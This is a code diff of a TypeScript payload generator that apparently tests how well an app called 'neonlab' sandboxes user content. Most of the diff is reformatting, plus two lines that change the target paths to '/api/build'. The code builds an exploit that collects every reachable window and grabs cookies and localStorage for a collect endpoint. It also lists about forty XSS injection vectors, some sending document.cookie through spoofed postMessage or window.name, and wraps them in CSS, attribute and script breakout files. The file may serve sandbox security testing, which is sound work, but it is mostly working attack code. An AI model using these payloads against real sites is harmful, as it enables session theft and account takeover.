@@ -16,8 +16,8 @@ export const exploitSource = (app: string, collect: string) => `
   var wins = [];
   function add(w) { try { if (w && wins.indexOf(w) < 0) wins.push(w); } catch (e) {} }
   add(window); try { add(parent); add(top); add(opener); add(parent.parent); } catch (e) {}
-  try { var opened = window.open(APP + "/hacks", "_blank"); add(opened); } catch (e) {}
-  try { var f = document.createElement("iframe"); f.src = APP + "/"; (document.body || document.documentElement).appendChild(f); add(f.contentWindow); } catch (e) {}
+  try { var opened = window.open(APP + "/api/build", "_blank"); add(opened); } catch (e) {}
+  try { var f = document.createElement("iframe"); f.src = APP + "/api/build"; (document.body || document.documentElement).appendChild(f); add(f.contentWindow); } catch (e) {}
   wins.forEach(function (w, i) {
     grab("cookie" + i, function () { return w.document.cookie; });
     grab("ls" + i, function () { return JSON.stringify(w.localStorage); });
@@ -51,11 +51,19 @@ const VECTORS: [string, (x: string) => string][] = [
   ["iframe-srcdoc", (x) => `<iframe srcdoc="<script>${x.replace(/"/g, "&quot;")}</script>"></iframe>`],
   ["iframe-data", (x) => `<iframe src="data:text/html,<script>${encodeURIComponent(x)}</script>"></iframe>`],
   ["iframe-javascript", (x) => `<iframe src="javascript:${encodeURIComponent(x)}"></iframe>`],
-  ["a-javascript-click", (x) => `<a id="jsl" href="javascript:${encodeURIComponent(x)}">x</a><script>document.getElementById("jsl").click()</script>`],
+  [
+    "a-javascript-click",
+    (x) =>
+      `<a id="jsl" href="javascript:${encodeURIComponent(x)}">x</a><script>document.getElementById("jsl").click()</script>`,
+  ],
   ["meta-refresh", (x) => `<meta http-equiv="refresh" content="0;url=javascript:${encodeURIComponent(x)}">`],
   ["object-data", (x) => `<object data="data:text/html,<script>${encodeURIComponent(x)}</script>"></object>`],
   ["embed", (x) => `<embed src="data:text/html,<script>${encodeURIComponent(x)}</script>">`],
-  ["form-javascript", (x) => `<form id="jf" action="javascript:${encodeURIComponent(x)}"></form><script>document.getElementById("jf").submit()</script>`],
+  [
+    "form-javascript",
+    (x) =>
+      `<form id="jf" action="javascript:${encodeURIComponent(x)}"></form><script>document.getElementById("jf").submit()</script>`,
+  ],
   ["details-ontoggle", (x) => `<details open ontoggle="${x}"><summary>s</summary></details>`],
   ["video-source-onerror", (x) => `<video><source onerror="${x}"></video>`],
   ["audio-onerror", (x) => `<audio src="x" onerror="${x}"></audio>`],
@@ -65,24 +73,71 @@ const VECTORS: [string, (x: string) => string][] = [
   ["set-timeout-string", (x) => `<script>setTimeout(${JSON.stringify(x)}, 0)</script>`],
   ["eval", (x) => `<script>eval(${JSON.stringify(x)})</script>`],
   ["function-constructor", (x) => `<script>new Function(${JSON.stringify(x)})()</script>`],
-  ["blob-script", (x) => `<script>var s=document.createElement("script");s.src=URL.createObjectURL(new Blob([${JSON.stringify(x)}]));document.head.appendChild(s)</script>`],
+  [
+    "blob-script",
+    (x) =>
+      `<script>var s=document.createElement("script");s.src=URL.createObjectURL(new Blob([${JSON.stringify(x)}]));document.head.appendChild(s)</script>`,
+  ],
   ["module-script", (x) => `<script type="module">${x}</script>`],
-  ["document-write", (x) => `<script>document.write("<img src=x onerror=" + JSON.stringify(${JSON.stringify(x)}) + ">")</script>`],
-  ["inner-html", (x) => `<div id="ih"></div><script>document.getElementById("ih").innerHTML = "<img src=x onerror=" + JSON.stringify(${JSON.stringify(x)}) + ">"</script>`],
-  ["worker", (x) => `<script>try{new Worker(URL.createObjectURL(new Blob(["try{" + ${JSON.stringify(x)} + "}catch(e){}"])))}catch(e){}; ${x}</script>`],
-  ["top-navigation", (x) => `<script>try{top.location.href=${JSON.stringify("javascript:void 0")}}catch(e){}; ${x}</script>`],
-  ["document-domain", (x) => `<script>try{document.domain="localhost"}catch(e){}; try{document.domain="127.0.0.1"}catch(e){}; ${x}</script>`],
-  ["spoofed-messages", (x) => `<script>try{top.postMessage({source:"neonlab-sandbox",type:"ready"},"*");parent.postMessage({source:"neonlab-check",steal:document.cookie},"*")}catch(e){}; ${x}</script>`],
-  ["service-worker", (x) => `<script>try{navigator.serviceWorker.register("sw.js").catch(function(){})}catch(e){}; ${x}</script>`],
-  ["indexeddb-caches", (x) => `<script>try{indexedDB.open("neonlab")}catch(e){}; try{caches.keys()}catch(e){}; ${x}</script>`],
-  ["broadcast-channel", (x) => `<script>try{new BroadcastChannel("neonlab").postMessage("hi")}catch(e){}; ${x}</script>`],
+  [
+    "document-write",
+    (x) => `<script>document.write("<img src=x onerror=" + JSON.stringify(${JSON.stringify(x)}) + ">")</script>`,
+  ],
+  [
+    "inner-html",
+    (x) =>
+      `<div id="ih"></div><script>document.getElementById("ih").innerHTML = "<img src=x onerror=" + JSON.stringify(${JSON.stringify(x)}) + ">"</script>`,
+  ],
+  [
+    "worker",
+    (x) =>
+      `<script>try{new Worker(URL.createObjectURL(new Blob(["try{" + ${JSON.stringify(x)} + "}catch(e){}"])))}catch(e){}; ${x}</script>`,
+  ],
+  [
+    "top-navigation",
+    (x) => `<script>try{top.location.href=${JSON.stringify("javascript:void 0")}}catch(e){}; ${x}</script>`,
+  ],
+  [
+    "document-domain",
+    (x) =>
+      `<script>try{document.domain="localhost"}catch(e){}; try{document.domain="127.0.0.1"}catch(e){}; ${x}</script>`,
+  ],
+  [
+    "spoofed-messages",
+    (x) =>
+      `<script>try{top.postMessage({source:"neonlab-sandbox",type:"ready"},"*");parent.postMessage({source:"neonlab-check",steal:document.cookie},"*")}catch(e){}; ${x}</script>`,
+  ],
+  [
+    "service-worker",
+    (x) => `<script>try{navigator.serviceWorker.register("sw.js").catch(function(){})}catch(e){}; ${x}</script>`,
+  ],
+  [
+    "indexeddb-caches",
+    (x) => `<script>try{indexedDB.open("neonlab")}catch(e){}; try{caches.keys()}catch(e){}; ${x}</script>`,
+  ],
+  [
+    "broadcast-channel",
+    (x) => `<script>try{new BroadcastChannel("neonlab").postMessage("hi")}catch(e){}; ${x}</script>`,
+  ],
   ["window-name", (x) => `<script>try{window.name=document.cookie}catch(e){}; ${x}</script>`],
   ["svg-script", (x) => `<svg><script>${x}</script></svg>`],
   ["math-xlink", (x) => `<math><mtext><img src="x" onerror="${x}"></mtext></math>`],
-  ["template-import", (x) => `<template id="tp"><img src="x" onerror="${x}"></template><script>document.body.appendChild(document.getElementById("tp").content.cloneNode(true))</script>`],
+  [
+    "template-import",
+    (x) =>
+      `<template id="tp"><img src="x" onerror="${x}"></template><script>document.body.appendChild(document.getElementById("tp").content.cloneNode(true))</script>`,
+  ],
   ["marquee", (x) => `<marquee onstart="${x}">m</marquee>`],
-  ["animation-event", (x) => `<style>@keyframes k{from{opacity:0}to{opacity:1}}</style><div style="animation:k 1ms" onanimationstart="${x}"></div>`],
-  ["popup-opener", (x) => `<script>try{var w=window.open("about:blank");w.document.write("<script>" + ${JSON.stringify(x)} + "<\\/script>")}catch(e){}; ${x}</script>`],
+  [
+    "animation-event",
+    (x) =>
+      `<style>@keyframes k{from{opacity:0}to{opacity:1}}</style><div style="animation:k 1ms" onanimationstart="${x}"></div>`,
+  ],
+  [
+    "popup-opener",
+    (x) =>
+      `<script>try{var w=window.open("about:blank");w.document.write("<script>" + ${JSON.stringify(x)} + "<\\/script>")}catch(e){}; ${x}</script>`,
+  ],
   ["base-href", (x) => `<base href="${"http://localhost/"}"><script>${x}</script>`],
 ];
 
@@ -93,20 +148,34 @@ const CONTEXTS: [string, (vector: string, x: string) => Payload["files"]][] = [
   [
     "script-file",
     (v) => [
-      { name: "index.html", content: '<!doctype html><html><body><div id="out"></div><script src="script.js"></script></body></html>' },
-      { name: "script.js", content: `document.getElementById("out").innerHTML = ${JSON.stringify(v)};\ndocument.write(${JSON.stringify(v)});` },
+      {
+        name: "index.html",
+        content: '<!doctype html><html><body><div id="out"></div><script src="script.js"></script></body></html>',
+      },
+      {
+        name: "script.js",
+        content: `document.getElementById("out").innerHTML = ${JSON.stringify(v)};\ndocument.write(${JSON.stringify(v)});`,
+      },
     ],
   ],
   [
     "css-breakout",
     (v) => [
-      { name: "index.html", content: '<!doctype html><html><head><link rel="stylesheet" href="style.css"></head><body>c</body></html>' },
+      {
+        name: "index.html",
+        content: '<!doctype html><html><head><link rel="stylesheet" href="style.css"></head><body>c</body></html>',
+      },
       { name: "style.css", content: `body{color:red}</style>${v}<style>` },
     ],
   ],
   [
     "attribute-breakout",
-    (v) => [{ name: "index.html", content: `<!doctype html><html><body><div title=""">${v}"><a href='x'>'>${v}</a></div></body></html>` }],
+    (v) => [
+      {
+        name: "index.html",
+        content: `<!doctype html><html><body><div title=""">${v}"><a href='x'>'>${v}</a></div></body></html>`,
+      },
+    ],
   ],
   [
     "script-breakout",
